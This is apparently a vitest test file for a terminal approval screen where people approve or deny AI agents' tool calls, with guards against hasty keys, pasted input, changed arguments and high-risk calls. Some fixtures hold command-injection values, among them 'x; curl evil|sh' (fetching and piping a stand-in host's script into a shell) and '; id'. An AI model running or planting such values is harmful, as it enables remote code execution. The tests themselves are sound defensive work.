import { describe, expect, test } from "vitest";
import type { Approval, ApprovalHead } from "#model";
import { anApproval, NOW } from "../support/approvals.ts";
import { memoryDecisions } from "../support/memory-decisions.ts";
import { KEY, openScreen } from "../support/open-screen.tsx";

const long = { content: Array.from({ length: 200 }, (_, at) => `line ${at}`).join("\n") };

describe("approving", () => {
  test("one key approves what was on the screen, with its digest", async () => {
    const approval = anApproval();
    const screen = await openScreen({ approvals: [approval] });
    await screen.keys("a");
    expect(screen.decisions.sent).toEqual([
      { id: "a1b2c3", decider: "local:ana", verdict: "approve", seenDigest: approval.effectiveDigest },
    ]);
    expect(screen.frame()).toContain("approved a1b2c3");
    expect(screen.frame()).toContain("0 waiting");
  });

  test("Enter never approves, nor does any other key than a", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys(KEY.enter, KEY.enter, "y", "Y", KEY.enter, "A", KEY.right, "\x01", "o", "O", KEY.enter);
    expect(screen.decisions.sent).toEqual([]);
  });

  test("S-63 what poses as a secret is approved, marked or granted only after r", async () => {
    const approval = anApproval({ args: { api_key: "x; curl evil|sh" } });
    const screen = await openScreen({ approvals: [approval] });
    await screen.keys("a", " ", "A", "g");
    expect(screen.frame()).toContain("masked, and odd for a secret");
    expect(screen.controller.state().mode.kind).toBe("browse");
    expect(screen.decisions.sent).toEqual([]);
    await screen.keys("r");
    expect(screen.frame()).toContain("x; curl evil|sh");
    await screen.keys("a");
    expect(screen.decisions.sent).toMatchObject([{ id: "a1b2c3", verdict: "approve" }]);
  });

  test("S-63 what was revealed elsewhere counts, other arguments do not, and a no needs nothing", async () => {
    const args = { token: { cmd: "reboot" } };
    const seen = anApproval({ args });
    const reveals = [{ person: "local:ana", argumentsDigest: seen.effectiveDigest }];
    const screen = await openScreen({ approvals: [{ ...seen, reveals }] });
    await screen.keys("a");
    expect(screen.decisions.sent).toHaveLength(1);
    const edited = await openScreen({
      approvals: [{ ...anApproval({ args: { token: "y; id" } }), reveals }],
    });
    await edited.keys("a");
    expect(edited.decisions.sent).toEqual([]);
    await edited.keys("d", "1", KEY.enter);
    expect(edited.decisions.sent).toMatchObject([{ verdict: "deny" }]);
  });

  test("S-63 what was revealed is masked again when other arguments take its place", async () => {
    const screen = await openScreen({ approvals: [anApproval({ args: { token: "first; id" } })] });
    await screen.keys("r");
    expect(screen.frame()).toContain("first; id");
    screen.decisions.put(anApproval({ args: { token: "second; id" } }));
    await screen.settled();
    expect(screen.frame()).not.toContain("second; id");
    await screen.keys("a");
    expect(screen.decisions.sent).toEqual([]);
  });

  test("S-36 a burst that was typed ahead decides nothing", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys("yyyy\r", "aaaa", "aa", "a\r", "\x1b[Ba", "aq".slice(0, 1) + KEY.down);
    expect(screen.decisions.sent).toEqual([]);
    expect(screen.frame()).toContain("1 waiting");
  });

  test("S-36 a key within 600 ms of the item's arrival is discarded, and is not kept for later", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.wait(599);
    screen.send("a");
    await screen.settled();
    screen.wait(5_000);
    await screen.settled();
    expect(screen.decisions.sent).toEqual([]);
    screen.send("a");
    await screen.settled();
    expect(screen.decisions.sent).toHaveLength(1);
  });

  test("S-36 a pasted key is text, never a key", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys("\x1b[200~a\x1b[201~");
    expect(screen.decisions.sent).toEqual([]);
  });

  test("moving to another item starts the wait anew", async () => {
    const screen = await openScreen({
      approvals: [anApproval(), anApproval({ id: "z9z9z9", createdAt: new Date(NOW.getTime() + 1) })],
    });
    screen.wait(10_000);
    screen.send(KEY.down);
    screen.wait(300);
    screen.send("a");
    await screen.settled();
    expect(screen.decisions.sent).toEqual([]);
    screen.wait(300);
    screen.send("a");
    await screen.settled();
    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["z9z9z9"]);
  });

  test("arguments that change under the person's eyes start the wait anew", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.wait(10_000);
    const changed = anApproval({ args: { path: "other.txt", content: "bye" } });
    screen.decisions.put({
      ...anApproval(),
      effectiveArgs: changed.effectiveArgs,
      effectiveDigest: changed.effectiveDigest,
    });
    await screen.settled();
    expect(screen.frame()).toContain("other.txt");
    screen.send("a");
    await screen.settled();
    expect(screen.decisions.sent).toEqual([]);
  });

  test("high risk asks for the number on the screen, digit by digit", async () => {
    const screen = await openScreen({ approvals: [anApproval({ risk: "high" })] });
    await screen.keys("a");
    expect(screen.frame()).toContain("high risk");
    expect(screen.frame()).toContain("Type  412  to approve");
    await screen.keys(KEY.enter, "412", "4", "1", KEY.enter, "3", "y");
    expect(screen.decisions.sent).toEqual([]);
    await screen.keys("4", "1", "2");
    expect(screen.decisions.sent).toHaveLength(1);
  });

  test("Esc takes the question back", async () => {
    const screen = await openScreen({ approvals: [anApproval({ risk: "high" })] });
    await screen.keys("a", KEY.escape, "4", "1", "2");
    expect(screen.decisions.sent).toEqual([]);
    expect(screen.frame()).toContain("approve  e edit");
  });

  test("S-20 arguments that were not read to their end need the number, or the end", async () => {
    const screen = await openScreen({ approvals: [anApproval({ args: long })] });
    await screen.keys("a");
    expect(screen.frame()).toMatch(/\d+ rows of arguments not read yet/);
    expect(screen.decisions.sent).toEqual([]);
    await screen.keys(KEY.escape, KEY.end);
    expect(screen.frame()).toContain("line 199");
    await screen.keys("a");
    expect(screen.decisions.sent).toHaveLength(1);
  });

  test("S-20 a megabyte says its size and how much of it is shown, and is bounded on the screen", async () => {
    const screen = await openScreen({
      approvals: [anApproval({ args: { content: "x".repeat(1_000_000) } })],
    });
    expect(screen.frame()).toContain("1.0 MB (1,000,014 bytes)");
    expect(screen.frame()).toMatch(/rows 1–\d+ of [\d,]+ ↓/);
    expect(screen.frame().split("\n")).toHaveLength(30);
    await screen.keys("a");
    expect(screen.frame()).toContain("not read yet");
  });

  test("S-86 arguments too long for the list are read when they are picked, and nothing is decided before", async () => {
    const approval = anApproval({ args: { content: "all of it" } });
    const decisions = memoryDecisions([approval]);
    let give = () => {};
    const isRead = new Promise<void>((resolve) => {
      give = resolve;
    });
    const screen = await openScreen({
      decisions: {
        ...decisions,
        list: async (filter) => (await decisions.list(filter)).map((listed) => headOf(listed as Approval)),
        get: (id) => isRead.then(() => decisions.get(id)),
      },
    });
    expect(screen.frame()).toContain("being read…");
    await screen.keys("a");
    expect(screen.frame()).toContain("are still being read");
    expect(decisions.sent).toEqual([]);
    give();
    await screen.settled();
    expect(screen.frame()).toContain("all of it");
    await screen.keys("a");
    expect(decisions.sent).toMatchObject([{ id: approval.id, seenDigest: approval.effectiveDigest }]);
  });

  test("S-89 a client that only a name tells from others is given no grant", async () => {
    const session = { ...anApproval().session, address: "127.0.0.1", isClaimed: true } as const;
    const screen = await openScreen({ approvals: [anApproval({ session })] });
    await screen.keys("g");
    expect(screen.frame()).toContain("only a name tells this client from others: no grant");
    expect(screen.decisions.sent).toEqual([]);
  });

  test("a quorum says how many more people are needed", async () => {
    const workflow = { ...anApproval().workflow, quorum: 2, approvers: ["local:ana", "bo"] };
    const screen = await openScreen({ approvals: [anApproval({ workflow })] });
    expect(screen.frame()).toContain("0 of 2");
    expect(screen.frame()).toContain("asked: local:ana, bo");
    await screen.keys("g");
    expect(screen.frame()).toContain("no grant");
  });

  test("where two workflows decide, each says how many of whom it has and wants [S-74]", async () => {
    const { workflow } = anApproval();
    const also = [{ name: "two", approvers: ["bo", "cy"], quorum: 2 }] as const;
    const approval = anApproval({ workflow: { ...workflow, name: "prod", approvers: ["local:ana"], also } });
    const { effectiveDigest: argumentsDigest } = approval;
    const votes = [{ decider: "cy", verdict: "approve", argumentsDigest, at: NOW }] as const;
    const screen = await openScreen({ approvals: [{ ...approval, votes }] });
    expect(screen.frame()).toContain("0 of 1 and 1 of 2 votes");
    expect(screen.frame()).toMatch(/votes +prod: 0 of 1 +· asked: local:ana/);
    expect(screen.frame()).toMatch(/and +two: 1 of 2 ✓ cy · asked: bo, cy/);
    await screen.keys("g");
    expect(screen.frame()).toContain("no grant");
    const short = anApproval({ workflow: { ...workflow, approvers: ["bo"], quorum: 2 } });
    expect((await openScreen({ approvals: [short] })).frame()).toContain("nobody can approve it");
  });

  test("what the store refuses is said, and the screen looks again", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.decisions.refuseWith(new Error("bo was first\x1b[2J"));
    await screen.keys("a");
    expect(screen.frame()).toContain("bo was first\\x1b[2J");
  });
});

describe("the item in front", () => {
  test("stays in front, undecidable, after somebody else decided it", async () => {
    const other = anApproval({ id: "z9z9z9", createdAt: new Date(NOW.getTime() + 1) });
    const screen = await openScreen({ approvals: [anApproval(), other] });
    screen.decisions.put(anApproval({ status: "denied", decidedBy: "bo", decidedAt: NOW, reason: "no" }));
    await screen.settled();
    expect(screen.frame()).toContain("cannot be decided: already denied");
    await screen.keys("a", "a", "d", "e", "g");
    expect(screen.decisions.sent).toEqual([]);
    await screen.keys(KEY.down, "a");
    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["z9z9z9"]);
  });

  test("a question about it goes away when somebody else decides it", async () => {
    const screen = await openScreen({ approvals: [anApproval({ risk: "high" })] });
    await screen.keys("a", "4");
    screen.decisions.put(anApproval({ risk: "high", status: "denied", decidedBy: "bo", decidedAt: NOW }));
    await screen.settled();
    expect(screen.frame()).toContain("a1b2c3 cannot be decided");
    await screen.keys("1", "2");
    expect(screen.decisions.sent).toEqual([]);
  });

  test("cannot be decided after its deadline, whatever the store says yet", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.wait(15 * 60_000 + 1);
    await screen.settled();
    expect(screen.frame()).toContain("its deadline has passed");
    await screen.keys("a");
    expect(screen.decisions.sent).toEqual([]);
  });

  test("a new arrival never takes its place", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.decisions.put(anApproval({ id: "000000", createdAt: new Date(NOW.getTime() - 1) }));
    await screen.settled();
    await screen.keys("a");
    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["a1b2c3"]);
  });
});

describe("a lost store", () => {
  test("shows a banner, nothing decidable, and comes back by itself", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    screen.decisions.lose(new Error("connection refused"));
    await screen.settled();
    expect(screen.frame()).toContain("store lost since 12:00:00 UTC, trying again; nothing can be decided");
    expect(screen.frame()).toContain("stale");
    expect(screen.frame()).toContain("cannot be decided: the store cannot be reached");
    await screen.keys("a", "d", "e", "g");
    screen.decisions.lose(undefined);
    await screen.settled();
    expect(screen.frame()).toContain("1 waiting");
    expect(screen.decisions.sent).toEqual([]);
    await screen.keys("a");
    expect(screen.decisions.sent).toHaveLength(1);
  });

  test("at the start shows that, and not an empty inbox", async () => {
    const screen = await openScreen();
    screen.decisions.lose(new Error("no"));
    await screen.settled();
    expect(screen.frame()).toContain("store lost");
  });
});

describe("denying", () => {
  test("a reason that was typed reaches the store", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys("d", "u", "se", " x", KEY.backspace, "y", KEY.enter);
    expect(screen.decisions.sent).toMatchObject([{ verdict: "deny", reason: "use y" }]);
    expect(screen.frame()).toContain("denied a1b2c3");
  });

  test("a digit takes a sentence, Esc takes the question back", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys("d", KEY.escape, "d", "3", KEY.enter);
    expect(screen.decisions.sent).toMatchObject([
      { verdict: "deny", reason: "Too broad: narrow the arguments and ask again." },
    ]);
  });

  test("a pasted reason is made visible and stays one line", async () => {
    const screen = await openScreen({ approvals: [anApproval()] });
    await screen.keys("d", "\x1b[200~two\nlines\x1b]0;x\x07\x1b[201~");
    expect(screen.frame()).toContain("> two\\nlines\\x1b]0;x\\x07");
    expect(screen.decisions.sent).toEqual([]);
  });
});

describe("several at once", () => {
  const three = [1, 2, 3].map((at) =>
    anApproval({ id: `id000${at}`, createdAt: new Date(NOW.getTime() + at), args: { path: `${at}.txt` } }),
  );

  test("marked calls of one tool and risk are approved after one number", async () => {
    const screen = await openScreen({ approvals: three });
    await screen.keys(" ", KEY.down, " ", "A");
    expect(screen.frame()).toContain("2 calls of files › write_file · 2 at once");
    await screen.keys("4", "1", "2");
    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["id0001", "id0002"]);
    expect(screen.frame()).toContain("1 waiting");
  });

  test("another tool, another risk and high risk cannot be marked along", async () => {
    const [first] = three;
    const other = anApproval({
      id: "tool02",
      tool: "delete",
      name: "files__delete",
      createdAt: new Date(NOW.getTime() + 5),
    });
    const high = anApproval({ id: "high03", risk: "high", createdAt: new Date(NOW.getTime() + 6) });
    const screen = await openScreen({ approvals: [first!, other, high] });
    await screen.keys(" ", KEY.down, " ");
    expect(screen.frame()).toContain("marked are calls of id0001's tool and risk");
    await screen.keys(KEY.down, " ");
    expect(screen.frame()).toContain("cannot be marked: high risk");
    await screen.keys("A");
    expect(screen.frame()).toContain("1 at once");
  });

  test("what changed since it was marked is not approved", async () => {
    const screen = await openScreen({ approvals: three });
    await screen.keys(" ", KEY.down, " ");
    const changed = anApproval({ args: { path: "evil" } });
    screen.decisions.put({
      ...three[0]!,
      effectiveArgs: changed.effectiveArgs,
      effectiveDigest: changed.effectiveDigest,
    });
    await screen.settled();
    await screen.keys("A", "4", "1", "2");
    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["id0002"]);
  });
});

/** The approval as a list has it that does not carry its arguments. */
function headOf({ proposedArgs: _, effectiveArgs, ...facts }: Approval): ApprovalHead {
  return { ...facts, argsHead: effectiveArgs.slice(0, 8), argsBytes: effectiveArgs.length };
}
